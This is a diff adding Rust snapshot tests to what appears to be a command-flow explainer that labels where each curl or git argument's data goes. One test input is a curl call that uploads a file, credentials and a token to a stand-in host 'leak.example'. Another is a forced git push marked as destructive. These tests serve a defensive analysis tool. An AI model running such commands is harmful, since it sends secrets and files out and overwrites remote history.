@@ -164,3 +164,91 @@ pub(crate) const fn stdin_name(stdin: StdinUse) -> &'static str {
         StdinUse::Stream => "stream",
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::world::World;
+    use crate::{interpret, resolve};
+    use std::ffi::OsString;
+
+    fn explained(argv: &[&str], world: &World) -> String {
+        let argv: Vec<OsString> = argv.iter().map(OsString::from).collect();
+        let mut invocation = interpret(&argv, world);
+        resolve(&mut invocation, world);
+        normal_form(&invocation)
+    }
+
+    #[test]
+    fn a_call_with_everything_is_told_line_by_line() {
+        let argv = [
+            "curl",
+            "-ksL",
+            "-d",
+            "key=value",
+            "-T",
+            "a.tgz",
+            "-H",
+            "X-Key: k",
+            "-u",
+            "me:pw",
+            "--resolve",
+            "leak.example:443:127.0.0.1",
+            "https://leak.example/x?token=t",
+            "--what",
+        ];
+        insta::assert_snapshot!(explained(&argv, &World::default()), @r"
+        program   curl (http)
+        option    --insecure
+        option    --silent
+        option    --location
+        option    --data = ‹9 bytes›
+        option    --upload-file = a.tgz
+        option    --header = X-Key: ‹1 byte›
+        option    --user = me:‹2 bytes›
+        option    --resolve = leak.example:443:127.0.0.1
+        option    --what
+        operand   url  https://leak.example/x?‹7 bytes›  leaves
+        flow      enters, leaves
+        goes to   https://leak.example loopback option:--resolve insecure redirects
+        content   body arg[3] leaves
+        content   body file:a.tgz leaves
+        content   header:x-key arg[7] leaves
+        content   credential arg[9] leaves
+        content   url arg[12] leaves
+        stdin     ignore
+        unclear   option `--what` is not in the table
+        ");
+    }
+
+    #[test]
+    fn a_push_is_told_with_its_hosts() {
+        let mut world = World::default();
+        let answers = [
+            ("git config --list -z", "remote.origin.url\nx\0"),
+            ("git remote get-url --all --push origin", "git@github.com:a/b\n"),
+        ];
+        world.outputs.extend(answers.map(|(line, answer)| (line.to_owned(), answer.to_owned())));
+        insta::assert_snapshot!(explained(&["git", "push", "-f", "origin", "main"], &world), @r"
+        program   git (vcs)
+        command   push
+        option    --force
+        operand   remote  origin  leaves
+        operand   reference  main  leaves
+        flow      destroys, leaves
+        goes to   ssh://github.com remote
+        stdin     ignore
+        ");
+    }
+
+    #[test]
+    fn an_unknown_command_is_told_as_such() {
+        insta::assert_snapshot!(explained(&["frob", "--x", "y"], &World::default()), @r"
+        program   frob (no profile)
+        operand   text  --x  stays
+        operand   text  y  stays
+        flow      none
+        stdin     ignore
+        ");
+    }
+}
